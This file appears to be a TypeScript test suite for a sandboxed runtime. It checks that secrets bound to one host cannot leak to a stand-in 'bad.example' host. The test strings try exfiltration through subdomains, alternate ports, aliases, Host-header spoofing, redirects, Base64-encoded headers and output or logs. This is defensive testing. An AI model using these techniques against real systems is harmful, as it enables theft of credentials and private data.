import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { needlesOf } from "../../../../host/secrets/needles.ts";
import type { Capabilities } from "../../../../runtime/capabilities.ts";
import { type Listening, listen } from "../../egress/servers.ts";
import type { CreateEngine } from "../harness.ts";
import { createOutsideHarness, granted, secrets } from "./outside.ts";
import type { OutsideHarness } from "./outside.ts";

const value = (name: string): string => secrets.get(name) ?? "";

/** What a step with secrets may try to give away. */
export function secretAttacks(createEngine: CreateEngine): void {
  describe("to give secrets away", () => {
    let harness: OutsideHarness;
    let good: Listening;
    let bad: Listening;
    beforeAll(async () => {
      harness = await createOutsideHarness(createEngine);
    });
    afterAll(() => harness.close());

    /** The good server has BOUND, and repeats all that it gets; both are reached under several names. */
    const begin = async () => {
      const echo = (request: { url?: string | undefined; rawHeaders: string[] }): string =>
        JSON.stringify([request.url, request.rawHeaders]);
      good = await listen((request, response) => {
        const to = /^\/to\/(.*)$/.exec(request.url ?? "")?.[1];
        if (to !== undefined) response.writeHead(308, { location: `http://${to}/` });
        response.end(echo(request));
      });
      bad = await listen((request, response) => response.end(echo(request)));
      const hosts = [{ scheme: "http" as const, host: "good.example", ports: [good.port] }];
      const more: Capabilities = { secrets: { BOUND: { hosts } } };
      const http = [
        granted(good.port, "good.example"),
        granted(bad.port, "good.example"),
        granted(bad.port, "bad.example"),
        granted(bad.port, "sub.good.example"),
        granted(good.port, "alias.example"),
      ];
      return { more, http };
    };
    const received = (): string => JSON.stringify([good.received, bad.received]);
    const expectHidden = (text: string, name: string): void => {
      for (const needle of needlesOf(value(name))) expect(text).not.toContain(needle);
    };

    test.each([
      ["to another host", `ask("bad.example:BAD", { headers: [["authorization", placeholder]] })`],
      ["to a host below it", `ask("sub.good.example:BAD", { headers: [["authorization", placeholder]] })`],
      ["to another port of it", `ask("good.example:BAD", { headers: [["authorization", placeholder]] })`],
      [
        "to the same server by another name",
        `ask("alias.example:GOOD", { headers: [["authorization", placeholder]] })`,
      ],
      ["in a path", `ask("good.example:GOOD", { path: "/" + placeholder })`],
      ["in a body", `ask("good.example:GOOD", { method: "POST", body: placeholder })`],
      ["in a header's name", `ask("good.example:GOOD", { headers: [[placeholder, "x"]] })`],
      [
        "by the Host header",
        `ask("bad.example:BAD", { headers: [["host", "good.example:GOOD"], ["authorization", placeholder]] })`,
      ],
      [
        "by a redirect",
        `[ask("good.example:GOOD", { path: "/to/bad.example:BAD" }), ask("bad.example:BAD", { headers: [["authorization", placeholder]] })]`,
      ],
      [
        "encoded as Base64 in a header",
        `ask("good.example:GOOD", { headers: [["x-a", btoa(placeholder)]] })`,
      ],
      [
        "in the output of what the good host repeats",
        `ask("good.example:GOOD", { headers: [["authorization", placeholder]] })`,
      ],
    ])("that it does not see: %s", async (_, call) => {
      const { more, http } = await begin();
      const code = call.replaceAll("GOOD", `${good.port}`).replaceAll("BAD", `${bad.port}`);
      const btoa = `const btoa = (text) => { const map = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"; let out = ""; for (let at = 0; at < text.length; at += 3) { const [a, b, c] = [0, 1, 2].map((i) => text.charCodeAt(at + i)); out += map[a >> 2] + map[((a & 3) << 4) | (b >> 4)] + (Number.isNaN(b) ? "=" : map[((b & 15) << 2) | (c >> 6)]) + (Number.isNaN(c) ? "=" : map[c & 63]); } return out; };`;
      const output = await harness.output(`const placeholder = env.BOUND; ${btoa} return ${code};`, {
        http,
        more,
      });
      expectHidden(JSON.stringify(output), "BOUND");
      const told = received();
      if (call.includes('authorization", placeholder') && call.includes('good.example:GOOD", { headers')) {
        expect(told).toContain(value("BOUND"));
      } else expectHidden(told, "BOUND");
    });

    test.each([
      ["as it is", "secret"],
      ["in JSON", "JSON.stringify({ secret })"],
      ["percent-encoded", "encodeURIComponent(secret)"],
      ["in hexadecimal digits", 'Array.from(bytes(secret), (b) => b.toString(16).padStart(2, "0")).join("")'],
      ["in a long text", '"x".repeat(5000) + secret + "y".repeat(5000)'],
    ])("that it sees, in output, failure and log: %s", async (_, form) => {
      const { more } = await begin();
      const code = (end: string) =>
        `const secret = env.PLAIN; const form = ${form}; print("warn", form); ${end}`;
      const given = { more: { ...more, secrets: { PLAIN: {} } } };
      const put = await harness.run(code("return { form, [form]: [form] };"), given);
      const failed = await harness.run(code("throw new Error(form);"), given);
      expect(put).toMatchObject({ ok: true });
      expect(failed).toMatchObject({ failure: { code: "ERR_STEP_FATAL" } });
      expect(JSON.stringify(put)).toContain("[secret PLAIN]");
      for (const result of [put, failed]) expectHidden(JSON.stringify(result), "PLAIN");
    });

    test("of another step, by its name", async () => {
      const { http } = await begin();
      const code = `
        const guess = "secret-BOUND-" + "0".repeat(32);
        return [Object.keys(env), ask("good.example:${good.port}", { headers: [["authorization", guess]] }).status];`;
      expect(await harness.output(code, { http })).toEqual([[], 200]);
      expectHidden(received(), "BOUND");
    });
  });
}
